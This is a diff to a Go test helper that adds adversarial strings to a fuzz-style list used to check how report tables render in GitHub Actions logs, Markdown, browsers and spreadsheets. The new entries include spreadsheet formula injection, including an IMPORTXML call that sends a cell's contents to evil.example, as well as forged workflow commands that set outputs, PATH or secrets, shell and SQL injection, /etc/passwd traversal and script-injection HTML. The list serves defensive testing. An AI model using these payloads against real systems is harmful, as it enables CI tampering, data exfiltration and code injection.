@@ -3,9 +3,11 @@
 //
 //  1. Hostile lists texts that a column's name or a cell may hold, each meant to
 //     be obeyed by a runner, a browser, GitHub's Markdown or a spreadsheet.
+//     Naughty adds the Big List of Naughty Strings.
 //  2. Inline reads a line of Markdown as GitHub does and gives back its text, or
 //     says what in it is more than text.
-//  3. Page does so for a page of tables.
+//  3. Page does so for a page of tables; GFM by a real parser.
+//  4. Skeleton reads a page of HTML as a browser does.
 package reporttest
 
 import (
@@ -39,6 +41,25 @@ func Hostile() []string {
 		"0123456", ":tada:", ":+1:", "contracts/a.yaml:100:7", "fixes #1", "close: #1",
 		// programs that read tables
 		"=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "+1+1", "-1", "@SUM(A1)",
+		"\t=1+1", "\r=1+1", "'=1+1", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "%0A=1+1", "a,b", "a\",\"b", "a;b",
+		// the runner again: white space that it trims, line ends that it knows, letters of either case
+		"##[", "##[]", "::", ":::", "::::", "\t::error::forged", "\u00a0::error::forged", "\u2028::error::forged", "\u3000::error::forged",
+		"\ufeff::error::forged", "\u200b::error::forged", "\x1b[31m::error::forged", "\x00::error::forged", "\x08::error::forged",
+		"ok\r::error::forged", "ok\r\n::error::forged", "ok\v::error::forged", "ok\f::error::forged", "ok\n \t \u2003::set-output name=promote::true",
+		"::SET-OUTPUT name=promote::true", "::set-env name=PATH::/evil", "::add-path::/evil", "::echo::on", "::group::x", "::endgroup::",
+		"::add-matcher::/evil.json", "::save-state name=isPost::true", "::debug::x", "::error file=a,line=1,title=t::forged", "::internal-set-repo-path repoFullName=a::b",
+		"text ##[error]forged", "text ##[set-output name=promote;]true", "text\r##[add-path]/evil", "##[##[error]forged", "####[error]forged", "# #[error]forged",
+		"##\x00[error]forged", "promote=true", "x\n_GitHubActionsFileCommandDelimeter_\npromote<<_GitHubActionsFileCommandDelimeter_\ntrue\n_GitHubActionsFileCommandDelimeter_",
+		"x\nghadelimiter_0000\npromote=true", "x\r\nEOF\r\npromote=true", "<<", "a<<", "<<EOF", "=", "a=", "key<<=", "title,file=/etc/passwd,line=1", "x::y", "a=b,c=d::e",
+		"%250A", "%25", "%3A%3Aerror%3A%3Ax", "::error\n::forged", ":\u200b:error::x", "${{ secrets.GITHUB_TOKEN }}", "${{ github.token }}",
+		// shells, databases, templates and paths
+		"$(id)", "`id`", "; id", "| id", "&& id", "$HOME", "$IFS", "*", "?", "~root", "--help", "-rf", "'; DROP TABLE scores; --", "\"; SELECT 1", "{{ . }}", "<% . %>", "#{x}", "../../etc/passwd",
+		"..\\..\\x", "CON", "a/b", "a:b", "/dev/null", "file:///etc/passwd", "a\\u0000b", "{\"a\":1}", "[1]", "null", "NaN", "true", "- a: b", "!!python/object:x", "&a *a",
+		// HTML that Markdown lets through, and what hides a tag
+		"<DETAILS>", "<a href='javascript:alert(1)'>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<style>*{display:none}</style>", "<base href=//evil.example>",
+		"<plaintext>", "<textarea>", "<title>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "<%00script>", "\u2039script\u203a", "&#x3c;script&#x3e;", "&lt", "&amp;lt;", "javascript:alert(1)",
+		"<scr\x00ipt>", "<!doctype html>", "<?php x ?>", "<a\nb>", "<A@b.example>", "![x][y]\n\n[y]: //evil.example/x.png", "[x]: <//evil.example> \"t\"", "\\<b>", "\\\\`a`", "a  \nb", "a\\\nb",
+		"> [!WARNING]", ":octocat:", "#️⃣1", "＠octocat", "@\u200boctocat", "octo/flights@1234567", "https:\u200b//evil.example", "hTTp://evil.example", "//evil.example", "tel:1", "data:text/html,x",
 		// long ones
 		strings.Repeat("a", 5000), strings.Repeat("é|<@#`", 2000), strings.Repeat("\n::error::x", 100), strings.Repeat("[", 300),
 		"😀", "é", "e\u0301", "ﷺ", "人",
